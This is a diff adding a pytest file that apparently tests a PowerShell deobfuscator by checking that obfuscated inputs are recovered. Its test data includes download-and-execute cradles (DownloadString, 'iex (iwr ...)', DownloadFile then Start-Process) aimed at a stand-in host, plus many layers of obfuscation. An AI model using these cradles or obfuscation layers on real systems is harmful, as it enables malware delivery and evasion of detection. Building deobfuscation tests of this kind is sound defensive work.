@@ -1,0 +1,78 @@
+"""What each kind of obfuscation hides is found again, whatever the seed."""
+
+from __future__ import annotations
+
+import random as randoms
+
+import pytest
+from evaluate.powershell import obfuscate as o
+from evaluate.powershell.psrun import run, value
+
+SEEDS = range(30)
+PAYLOADS = ("Write-Output 'INERT'", "http://a.example.test/x?y=1&z=%20", '$w = "it\'s"; {1} `t', "I", "INERT " * 20)
+
+
+@pytest.mark.parametrize("family", o.TEXTS)
+def test_texts_come_back(family):
+    for seed in SEEDS:
+        random = randoms.Random(f"{family}{seed}")
+        text = random.choice(PAYLOADS)
+        hidden = o.TEXTS[family](random, text)
+        assert value(hidden) == text, hidden
+
+
+def test_texts_within_texts():
+    for seed in range(60):
+        random = randoms.Random(seed)
+        text = random.choice(PAYLOADS[:2])
+        first, second = random.sample(sorted(o.TEXTS), 2)
+        hidden = o.TEXTS[second](random, f"throw {o.TEXTS[first](random, text)}")
+        assert run(f"iex {hidden}" if hidden.startswith(("(", "$", "'")) else f"iex ({hidden})").values("eval.error") == [text], hidden
+
+
+@pytest.mark.parametrize("number", range(len(o.INVOKES)))
+def test_ways_to_run_a_text(number):
+    for seed in range(12):
+        random = randoms.Random(f"{number}{seed}")
+        code = f"(New-Object Net.WebClient).DownloadString('http://a.example.test/{seed}')"
+        hidden = o.TEXTS[random.choice(sorted(o.TEXTS))](random, code)
+        out = run(o.INVOKES[number](random, hidden))
+        assert out.urls == [f"http://a.example.test/{seed}"], o.INVOKES[number](random, hidden)
+        assert code in out.layers
+
+
+def test_encoded_commands():
+    for seed in range(100):
+        random = randoms.Random(seed)
+        code = f"iex (iwr http://a.example.test/{seed})"
+        out = run(o.encoded_command(random, code))
+        assert out.urls == [f"http://a.example.test/{seed}"], o.encoded_command(randoms.Random(seed), code)
+        assert out.layers[0] == code
+
+
+def test_commands_members_types_and_variables_in_disguise():
+    for seed in range(150):
+        random = randoms.Random(seed)
+        w, u = o.variable_name(random, "client"), o.variable_name(random, "url")
+        text = (
+            f"{w}={o.command_name(random, 'New-Object')} {o.casing(random, 'Net.WebClient')};"
+            f"{u}={o.concat(random, 'http://a.example.test/x')};"
+            f"{o.type_name(random, 'Net.ServicePointManager')}::SecurityProtocol='Tls12';"
+            f"{w}{o.member(random, 'DownloadFile')}{random.choice(('', '.Invoke'))}({u},'C:\\x.exe');"
+            f"{o.command_name(random, 'Start-Process')} 'C:\\x.exe'"
+        )
+        out = run(text)
+        assert out.urls == ["http://a.example.test/x"], text
+        assert out.values("effect.run") == [r"C:\x.exe"], text
+
+
+def test_many_layers():
+    for seed in range(6):
+        random = randoms.Random(seed)
+        code = "(New-Object Net.WebClient).DownloadFile('http://a.example.test/x','a.exe')"
+        families = ("concat", "reorder", "base64_unicode", "deflated", "bxor", "split_codes", "secure_string", "replaced")
+        for _ in range(6):
+            code = random.choice(o.INVOKES)(random, o.TEXTS[random.choice(families)](random, code))
+        out = run(code)
+        assert out.urls == ["http://a.example.test/x"]
+        assert len(out.layers) >= 6
